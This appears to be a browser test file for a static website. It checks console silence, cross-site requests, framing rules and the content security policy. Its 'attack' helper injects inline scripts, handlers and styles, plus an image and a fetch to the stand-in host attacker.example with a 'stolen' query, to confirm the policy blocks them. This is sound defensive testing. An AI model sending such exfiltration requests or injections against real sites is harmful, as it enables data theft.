// A page says nothing in the console, asks no other site for anything, finds all that it asks for; and its policy holds
// against what a hostile record would try.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { it } from 'node:test';
import { pages, samples, typical } from '../support/site.js';
import { eachPage, none, withBrowser } from '../support/browser.js';

/** Writes down what the page should never do. */
function listen(found) {
  return (tab) => {
    tab.on('console', (message) => found.push(`console ${message.type()}: ${message.text()}`));
    tab.on('pageerror', (error) => found.push(`script error: ${error.message}`));
    tab.on('requestfailed', (request) => found.push(`failed: ${request.url()} ${request.failure()?.errorText}`));
    tab.on('request', (request) => {
      if (!/^http:\/\/127\.0\.0\.1:/.test(request.url())) found.push(`asks another site: ${request.url()}`);
    });
    tab.on('response', (response) => {
      if (response.status() >= 400) found.push(`${response.status()}: ${response.url()}`);
    });
  };
}

withBrowser('network and console', { concurrency: 2 }, (visit) => {
  eachPage(samples, async (page) => {
    const found = [];
    await visit(page.path, { prepare: listen(found) }, async (tab) => {
      await tab.waitForLoadState('networkidle');
      // Deferred work starts with what a reader does.
      await tab.mouse.wheel(0, 2000);
      await tab.keyboard.press('Tab');
      await tab.waitForLoadState('networkidle');
    });
    none(found);
  });

  it('an unknown address, however deep, shows the page for it with its style', async () => {
    const found = [];
    await visit('no/such/page/', { prepare: listen(found) }, async (tab) => {
      assert.match(await tab.locator('h1').innerText(), /not found/i);
      assert.equal(await tab.evaluate(() => document.styleSheets.length), 1);
    });
    // The page itself is one 404; the browser tells it in the console too.
    assert.deepEqual(found.filter((line) => !/no\/such\/page\/$|console error: .*404/.test(line)), []);
  });
});

withBrowser('what other sites may do', {}, (visit) => {
  it('frame cards and no other page, and load data', async () => {
    const card = pages.find((page) => /^[^/]+\/[^/]+\/embed\/$/.test(page.path)).path;
    await visit('', {}, async (tab, root) => {
      const frame = (id, path) => `<iframe id=${id} src="${root}${path}"></iframe>`;
      const body = `<!doctype html><title>x</title>${frame('card', card)}${frame('page', '')}${frame('lost', 'no/such/page/')}`;
      // Another port is another site; a name elsewhere may not ask this machine for anything.
      const other = createServer((_, response) => response.writeHead(200, { 'content-type': 'text/html' }).end(body));
      await new Promise((ready) => other.listen(0, '127.0.0.1', ready));
      await tab.goto(`http://127.0.0.1:${other.address().port}/`, { waitUntil: 'load' });
      const shown = async (id) => (await (await tab.locator(`#${id}`).elementHandle()).contentFrame()).locator('link[rel=canonical]').count();
      assert.deepEqual([await shown('card'), await shown('page'), await shown('lost')], [1, 0, 0]);
      const load = (address) => fetch(address).then((answer) => answer.text());
      assert.match(await tab.evaluate(load, `${root}data/systems.csv`), /^\ufeff?\w+,/);
      assert.match(await tab.evaluate(load, `${root}api/v1/openapi.json`), /openapi/);
      other.close();
      other.closeAllConnections();
    });
  });
});

withBrowser('content security policy', { concurrency: 2 }, (visit) => {
  eachPage(typical, async (page) => {
    const stopped = [];
    const prepare = (tab) => tab.on('requestfailed', (request) => stopped.push(`${request.url()} ${request.failure()?.errorText}`));
    await visit(page.path, { prepare }, async (tab) => {
      const { broken, ran, styled } = await tab.evaluate(attack);
      assert.deepEqual(broken, ['connect-src', 'img-src', 'script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem']);
      assert.equal(ran, 0, 'a script of the attacker ran');
      assert.equal(styled, false, 'a style of the attacker took effect');
    });
    // A request that had left the browser would have failed for want of a server, not because of the policy.
    assert.deepEqual(stopped.filter((line) => !line.endsWith(' csp')), []);
  });
});

// Tries what the policy forbids. Gives the directives that stopped it, and what got through.
async function attack() {
  globalThis.ran = 0;
  const broken = new Set();
  const all = new Promise((done) => {
    document.addEventListener('securitypolicyviolation', (event) => {
      broken.add(event.effectiveDirective);
      if (broken.size === 6) done();
    });
    setTimeout(done, 5000);
  });
  const add = (name, attributes, text = '') => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    element.textContent = text;
    document.body.append(element);
    return element;
  };
  add('script', {}, 'globalThis.ran += 1');
  add('button', { onclick: 'globalThis.ran += 1' }).click();
  add('style', {}, 'body { outline: 7px solid red }');
  const box = add('p', { style: 'outline: 7px solid red' });
  add('img', { src: 'https://attacker.example/picture.png', alt: '' });
  fetch('https://attacker.example/?stolen=1').catch(() => {});
  await all;
  const thick = (element) => getComputedStyle(element).outlineWidth === '7px';
  return { broken: [...broken].sort(), ran: globalThis.ran, styled: thick(box) || thick(document.body) };
}
